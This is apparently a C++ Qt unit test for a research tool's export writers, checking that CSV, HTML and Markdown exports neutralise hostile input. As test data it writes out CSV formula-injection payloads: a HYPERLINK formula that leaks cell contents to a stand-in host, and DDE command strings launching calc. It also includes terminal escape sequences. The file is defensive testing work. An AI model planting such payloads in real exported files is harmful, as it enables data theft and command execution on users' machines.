// SPDX-License-Identifier: GPL-3.0-or-later
// What a hostile bundle or note cannot do through an export: run formulas in
// a spreadsheet or slip control characters into the files a researcher opens.
#include "exportwriters.h"

#include <QTest>

using namespace Lectern::Models;
using namespace Qt::StringLiterals;

namespace {

/// A set of one document and one annotation whose every text field a
/// stranger wrote.
ExportSet hostileSet(const QString &text, const QString &url = u"https://example.test/a"_s)
{
    ExportSet set;
    set.bundleName = u"Hostile"_s;
    set.bundleKey = u"hostile"_s;
    ExportDocument document;
    document.id = text;
    document.title = text;
    document.url = url;
    document.path = text;
    document.date = text;
    set.documents.append(document);
    ExportItem item;
    item.document = 0;
    item.start = 3;
    item.end = 10;
    item.annotation.id = u"11111111-2222-3333-4444-555555555555"_s;
    item.annotation.documentId = text;
    item.annotation.quote = text;
    item.annotation.note = text;
    item.annotation.tags = {text};
    item.annotation.author = text;
    item.codeName = text;
    item.codePath = text;
    set.items.append(item);
    return set;
}

QList<QStringList> parseCsv(const QByteArray &bytes)
{
    // RFC 4180 as a spreadsheet program reads it.
    QList<QStringList> rows;
    QStringList row;
    QString field;
    const QString text = QString::fromUtf8(bytes);
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
                field += u'"';
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            row.append(field);
            field.clear();
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            row.append(field);
            rows.append(row);
            row.clear();
            field.clear();
            ++i;
        } else {
            field += c;
        }
    }
    return rows;
}

/// The C0 controls (other than tab, line feed and carriage return), DEL and C1 controls in @p text.
QString strayControls(const QString &text)
{
    QString found;
    for (const QChar c : text) {
        const char16_t u = c.unicode();
        if ((u < 0x20 && u != u'\t' && u != u'\n' && u != u'\r') || (u >= 0x7F && u <= 0x9F))
            found += u"\\x%1"_s.arg(int(u), 2, 16, QChar(u'0'));
    }
    return found;
}

} // namespace

class ExportEscapingTest final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void csvNeutralisesFormulas_data();
    void csvNeutralisesFormulas();
    void controlCharactersAreReplaced_data();
    void controlCharactersAreReplaced();
};

void ExportEscapingTest::csvNeutralisesFormulas_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("equals") << u"=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")"_s;
    QTest::newRow("dde") << u"=cmd|' /C calc'!A0"_s;
    QTest::newRow("plus") << u"+1+cmd|' /C calc'!A0"_s;
    QTest::newRow("minus") << u"-2+3+cmd|' /C calc'!A0"_s;
    QTest::newRow("at") << u"@SUM(1+9)*cmd|' /C calc'!A0"_s;
    QTest::newRow("tab") << u"\t=1+1"_s;
    QTest::newRow("carriage return") << u"\r=1+1"_s;
}

void ExportEscapingTest::csvNeutralisesFormulas()
{
    QFETCH(QString, text);
    const QList<QStringList> rows = parseCsv(csvExport(hostileSet(text, text), {}));
    QCOMPARE(rows.size(), 2);
    const QStringList &row = rows.at(1);
    // Every cell of text from the bundle or the store starts with an
    // apostrophe, so a spreadsheet program shows it instead of running it.
    for (const int column : {0, 1, 2, 5, 6, 7, 8, 10})
        QCOMPARE(row.at(column), u'\'' + text);
    // The numbers Lectern writes itself are left as numbers.
    QCOMPARE(row.at(3), u"3"_s);
    QCOMPARE(row.at(4), u"10"_s);

    // For tools that want the values exactly, the cells can be left raw.
    ExportOptions raw;
    raw.csvRawCells = true;
    const QStringList rawRow = parseCsv(csvExport(hostileSet(text, text), raw)).value(1);
    for (const int column : {0, 1, 2, 5, 6, 7, 8, 10})
        QCOMPARE(rawRow.at(column), text);
}

void ExportEscapingTest::controlCharactersAreReplaced_data()
{
    QTest::addColumn<QString>("format");
    QTest::newRow("csv") << u"csv"_s;
    QTest::newRow("html") << u"html"_s;
    QTest::newRow("md") << u"md"_s;
}

void ExportEscapingTest::controlCharactersAreReplaced()
{
    QFETCH(QString, format);
    const QString text = u"bell\u0007 nul"_s + QChar(0) + u" escape\u001b[2J\u001b]0;owned\u0007 del\u007f csi\u009b1m end\ttab"_s;
    const ExportSet set = hostileSet(text, u"https://example.test/\u001b[2J"_s);
    QByteArray bytes;
    if (format == u"csv"_s)
        bytes = csvExport(set, {});
    else if (format == u"html"_s)
        bytes = htmlExport(set, {});
    else
        bytes = markdownExport(set, {});
    const QString written = QString::fromUtf8(bytes);
    QVERIFY2(!bytes.contains('\0'), "a NUL byte was written");
    QVERIFY2(strayControls(written).isEmpty(), qPrintable(strayControls(written)));
    // Each is replaced visibly, and the text around it kept.
    QVERIFY2(written.contains(u"bell\uFFFD nul\uFFFD escape\uFFFD"_s), qPrintable(written));
    QVERIFY(written.contains(u"end\ttab"_s) || written.contains(u"end&#9;tab"_s));
}

QTEST_MAIN(ExportEscapingTest)
#include "exportescaping_test.moc"
